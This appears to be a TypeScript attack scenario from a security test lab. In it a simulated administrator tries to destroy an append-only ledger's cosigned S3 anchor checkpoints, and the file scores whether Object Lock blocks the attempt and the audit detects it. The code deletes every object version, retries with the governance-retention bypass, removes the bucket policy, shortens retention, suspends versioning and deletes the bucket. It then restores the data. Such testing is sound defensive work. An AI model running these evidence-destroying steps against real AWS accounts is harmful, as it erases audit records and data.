// Lab advanced-ledger, attack 8 (the last: what it destroys may not come back): delete the anchors. The
// cosigned checkpoints in the anchor bucket prove how far the log reached; ops-admin tries to make them
// go away: a delete marker on each, then every version (again with the governance bypass when refused),
// a shorter retention, versioning suspended, the bucket deleted. Blocked when none of the permanent
// changes took effect: Object Lock in COMPLIANCE mode refuses them even to the account root (the delete
// markers are allowed, as in AWS, and are themselves evidence). Detected when the audit reports the
// anchors tampered with.
import {
  S3Client, DeleteBucketCommand, DeleteObjectCommand, GetObjectRetentionCommand, PutBucketVersioningCommand, PutObjectRetentionCommand,
} from '@aws-sdk/client-s3';
import type { AttackStep, Scenario } from '../src/engine/types.ts';
import {
  attackerClient, batchStep, dropBucketPolicy, judge, listVersions, notRun, plain, prepareAttack, readBody, restore, revertCommon, tryCall,
  type Prepared, type Snapshot,
} from './advanced-ledger-shared.ts';

interface State extends Prepared {
  anchors?: Snapshot;
  took?: string[];
  objects?: number;
}

/** At most this many anchor objects are attacked (the newest: those that show the attacker's entries). */
const MAX_OBJECTS = 20;

export const ledgerDeleteAnchorsScenario: Scenario = {
  id: 'ledger-delete-anchors',
  title: 'An administrator tries to delete the ledger\'s anchors',
  description: 'ops-admin deletes the anchored checkpoints and every version of them, shortens their retention, suspends versioning and deletes the anchor bucket.',
  techniques: ['T1485', 'T1070'],
  detections: ['ledger audit: anchor-tampered'],
  points: { blocked: 4, detected: 2 },
  tasks: { detected: 'anchor', blocked: 'anchor' },
  prepare: (session) => prepareAttack(session, 'delete-anchors'),
  async inject(session, state) {
    const st = state as State;
    if (!st.logged) return [];
    const t = st.target;
    // The ledger itself is not touched.
    st.before = undefined;
    if (!t.anchor) {
      st.why = 'there is no anchor bucket in the run account (anchor task)';
      return [];
    }
    const { bucket, prefix } = t.anchor;
    const s3 = attackerClient(session, t, S3Client);
    const root = session.client(S3Client);
    st.anchors = await listVersions(root, bucket, prefix);
    const keys = [...st.anchors.keys()].filter((k) => st.anchors!.get(k)!.some((v) => !v.deleteMarker)).sort().slice(-MAX_OBJECTS);
    if (!keys.length) {
      st.why = `the anchor bucket ${bucket} holds no checkpoint (anchor task)`;
      return [];
    }
    st.objects = keys.length;
    for (const k of keys) {
      for (const v of st.anchors.get(k)!.filter((x) => !x.deleteMarker)) {
        const body = await readBody(root, bucket, k, v.versionId);
        if (body) st.saved.set(`${bucket}/${k}#${v.versionId}`, body);
        if (body && v.isLatest) st.saved.set(`${bucket}/${k}`, body);
      }
    }
    const took: string[] = [];
    const steps: AttackStep[] = [];
    steps.push(plain(await batchStep(session, `DeleteObject of ${keys.length} anchored checkpoint(s) (delete markers)`, keys.map((k) => () => s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: k }))))));
    const versions = keys.flatMap((k) => st.anchors!.get(k)!.filter((v) => !v.deleteMarker).map((v) => ({ k, v: v.versionId })));
    const del = await batchStep(session, `DeleteObject of ${versions.length} anchor version(s)`, versions.map(({ k, v }) => () => s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: k, VersionId: v }))));
    steps.push(plain(del));
    const left = [];
    for (const x of versions) if ((await listVersions(root, bucket, x.k)).get(x.k)?.some((y) => y.versionId === x.v)) left.push(x);
    if (versions.length - left.length) took.push(`${versions.length - left.length} anchor version(s) deleted`);
    if (left.length) {
      const bypass = await batchStep(session, `DeleteObject of ${left.length} anchor version(s) with x-amz-bypass-governance-retention`, left.map(({ k, v }) => () => s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: k, VersionId: v, BypassGovernanceRetention: true }))));
      steps.push(plain(bypass));
      if (bypass.done) took.push(`${bypass.done} anchor version(s) deleted bypassing governance retention`);
      if (bypass.done < bypass.total) {
        // Refused still: without the bucket policy (an administrator may delete it unless it says otherwise).
        const dropped = await dropBucketPolicy(session, st, bucket);
        steps.push(...dropped);
        if (dropped.at(-1)?.allowed) {
          const rest = [];
          for (const x of left) if ((await listVersions(root, bucket, x.k)).get(x.k)?.some((y) => y.versionId === x.v)) rest.push(x);
          const again = await batchStep(session, `DeleteObject of ${rest.length} anchor version(s) without the bucket policy`, rest.map(({ k, v }) => () => s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: k, VersionId: v, BypassGovernanceRetention: true }))));
          steps.push(plain(again));
          if (again.done) took.push(`${again.done} anchor version(s) deleted once the bucket policy was gone`);
        }
      }
    }
    // A shorter retention on what is left (so it can be deleted later).
    const still = [];
    for (const x of versions) if ((await listVersions(root, bucket, x.k)).get(x.k)?.some((y) => y.versionId === x.v)) still.push(x);
    if (still.length) {
      const shorten = await batchStep(session, `PutObjectRetention of ${still.length} anchor version(s): retained one more minute only`, still.map(({ k, v }) => async () => {
        const cur = await s3.send(new GetObjectRetentionCommand({ Bucket: bucket, Key: k, VersionId: v })).catch(() => undefined);
        const mode = cur?.Retention?.Mode ?? 'GOVERNANCE';
        await s3.send(new PutObjectRetentionCommand({ Bucket: bucket, Key: k, VersionId: v, BypassGovernanceRetention: true, Retention: { Mode: mode, RetainUntilDate: new Date(session.now() + 60_000) } }));
      }));
      steps.push(plain(shorten));
      if (shorten.done) took.push(`the retention of ${shorten.done} anchor version(s) shortened`);
    }
    const suspend = await tryCall(() => s3.send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Suspended' } })));
    steps.push(step(session, `PutBucketVersioning ${bucket}: Suspended`, suspend));
    if (suspend.ok) took.push('versioning suspended');
    const drop = await tryCall(() => s3.send(new DeleteBucketCommand({ Bucket: bucket })));
    steps.push(step(session, `DeleteBucket ${bucket}`, drop));
    if (drop.ok) took.push('the bucket deleted');
    st.took = took;
    return steps;
  },
  async observe(session, steps, state) {
    const st = state as State;
    if (!st.took) return notRun(st, steps);
    const blocked = st.took.length === 0;
    return judge(session, st, steps, {
      kinds: ['anchor-tampered'],
      what: 'the anchored checkpoints',
      needs: 'the audit must read every version of the anchors (delete markers are evidence) with the pinned trust roots',
    }, {
      blocked,
      text: blocked
        ? `blocked: Object Lock kept all ${st.objects} anchored checkpoint(s) (deletion of versions, shorter retention, versioning suspension and bucket deletion refused)`
        : `not blocked: ${st.took.join(', ')} — create the anchor bucket with Object Lock in COMPLIANCE mode and a default retention`,
    });
  },
  async revert(session, state) {
    const st = state as State;
    if (st.anchors && st.target.anchor) {
      const root = session.client(S3Client);
      const { bucket, prefix } = st.target.anchor;
      await root.send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Enabled' } })).catch(() => undefined);
      await restore(session, bucket, prefix, st.anchors, st.saved, true).catch(() => undefined);
    }
    await revertCommon(session, st);
  },
};

function step(session: import('../src/engine/session.ts').LabSession, description: string, r: { ok: boolean; code?: string }): AttackStep {
  const s: AttackStep = { description, allowed: r.ok, ...(r.code ? { errorCode: r.code } : {}), at: session.now() };
  session.onAttackStep?.(s);
  return s;
}
